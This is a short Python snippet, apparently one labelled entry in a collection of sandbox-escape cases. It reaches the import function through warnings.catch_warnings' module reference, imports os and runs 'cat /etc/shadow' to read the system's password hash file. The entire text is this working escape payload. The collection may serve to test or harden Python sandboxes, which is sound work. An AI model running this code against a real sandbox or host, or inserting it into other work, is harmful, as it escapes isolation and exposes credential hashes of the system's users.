# attack-class: 7
# title: catch_warnings()._module.__builtins__
# why: warnings.catch_warnings keeps a module reference whose builtins include __import__

for c in "".__class__.__mro__[1].__subclasses__():
    if c.__name__ == "catch_warnings":
        imp = c()._module.__builtins__["__import__"]
        imp("os").system("cat /etc/shadow")
